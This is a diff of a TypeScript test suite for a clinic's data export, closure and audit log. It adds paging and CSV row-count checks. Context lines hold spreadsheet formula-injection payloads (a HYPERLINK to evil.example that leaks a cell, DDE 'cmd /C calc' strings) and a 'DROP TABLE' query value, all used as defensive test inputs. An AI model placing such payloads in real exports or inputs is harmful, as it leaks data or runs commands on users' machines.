@@ -63,6 +63,25 @@ describe.each(databaseKinds())('The clinic\'s rights: export, closure and the au
     expect(await db.prisma.auditEntry.count({ where: { clinicId: c.clinic.id, action: 'clinic.exported' } })).toBe(1);
   });
 
+  it('a busy clinic\'s export and call log CSV hold every row once, read a page at a time', async () => {
+    const c = await runningClinic();
+    const start = NOW.getTime() - 30 * 86_400_000;
+    const calls = Array.from({ length: 2_300 }, (_, i) => ({ callSid: `CA${(0x6b000000 + seq++).toString(16).padStart(32, '0')}`, clinicId: c.clinic.id, fromNumber: '+447700900123', toNumber: c.clinic.numbers[0]!, direction: 'inbound', status: 'completed', startedAt: new Date(start + i * 60_000) }));
+    await db.prisma.call.createMany({ data: calls });
+    const ids = (await db.prisma.call.findMany({ where: { clinicId: c.clinic.id }, select: { id: true } })).map((r) => r.id);
+    await db.prisma.callEvent.createMany({ data: ids.flatMap((callId) => [1, 2].map((k) => ({ callId, at: NOW, kind: `status:${k}`, dedupeKey: `${callId}:${k}` }))) });
+    const files = unzipSync(new Uint8Array((await asBytes(c.owner.agent.get(`${c.base}/export.zip`))).body as Buffer));
+    const all = JSON.parse(strFromU8(files['clinic.json']!));
+    expect(all.calls.map((r: { id: string }) => r.id).sort()).toEqual([...ids].sort());
+    expect(all.callEvents).toHaveLength(ids.length * 2);
+    expect(new Set(all.callEvents.map((e: { id: string }) => e.id)).size).toBe(ids.length * 2);
+    expect(strFromU8(files['csv/calls.csv']!).trim().split('\n')).toHaveLength(ids.length + 1);
+    expect(strFromU8(files['csv/callEvents.csv']!).trim().split('\n')).toHaveLength(ids.length * 2 + 1);
+    const csv = await c.owner.get(`${c.base}/calls.csv`);
+    expect(csv.text.trim().split('\n')).toHaveLength(ids.length + 1);
+    expect(csv.text.match(/^started,/gm)).toHaveLength(1); // one header, however many pages
+  });
+
   it('no cell of the export runs as a spreadsheet formula, whatever a patient\'s name or a caller\'s number says', async () => {
     const c = await runningClinic();
     const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
@@ -97,7 +116,7 @@ describe.each(databaseKinds())('The clinic\'s rights: export, closure and the au
     expect(standin.recordings.has(c.atTwilio.sid)).toBe(false);
     // The data key is gone: whatever key exists now cannot open the old copy.
     await expect(async () => open(await clinicDataKey(db.prisma, c.ctx.config.recordingsKey, c.clinic.id), copied, c.stored.id)).rejects.toThrow();
-    expect((await c.owner.get(c.base)).status).toBe(404);
+    expect((await c.owner.get(c.base)).status).toBe(401); // its owner had no other clinic: signed out
   });
 
   it('a recording under legal hold stops the closure until the owner says, explicitly, that it goes too; the operator\'s trail says so', async () => {
@@ -138,6 +157,7 @@ describe.each(databaseKinds())('The clinic\'s rights: export, closure and the au
     expect((await c.owner.get(`${c.base}/audit?action=DROP TABLE`)).body.error).toMatchObject({ field: 'action' });
     // Past the largest id the log can hold: a clear 400, not a database error.
     expect((await c.owner.get(`${c.base}/audit?before=9999999999999999999`)).body.error).toMatchObject({ field: 'before' });
+    expect((await c.owner.get(`${c.base}/audit?before=:`)).body.error).toMatchObject({ field: 'before' }); // found by the fuzzer
     // Sign-ins of this clinic's staff, and of no one else.
     expect((await list('action=session.')).entries).toEqual([expect.objectContaining({ action: 'session.signed_in', actor: expect.objectContaining({ id: c.ownerLogin.userId }) })]);
   });
